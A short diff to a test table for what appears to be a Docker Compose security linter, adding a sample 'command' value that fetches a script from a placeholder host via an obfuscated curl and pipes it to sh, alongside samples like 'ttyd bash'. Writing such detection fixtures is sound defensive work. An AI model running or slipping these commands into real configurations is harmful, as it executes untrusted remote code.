@@ -66,6 +66,7 @@ SPELLINGS: Final[dict[str, tuple[Row, ...]]] = {
     "services.*.cgroup_parent": (("cgroup_parent: /x", "", "SVC-008"),),
     "services.*.command": (
         ("command: [sh, -c, 'pip install x']", "", "SVC-012"),
+        ("command: sh -c 'C=curl; $$C x.test/i | sh'", "", "SVC-012"),
         ("command: ttyd bash", "", "SVC-011"),
         ("command: run --model a/b", "", "SVC-013"),
         ("command: run --debug", "", "SEC-006"),
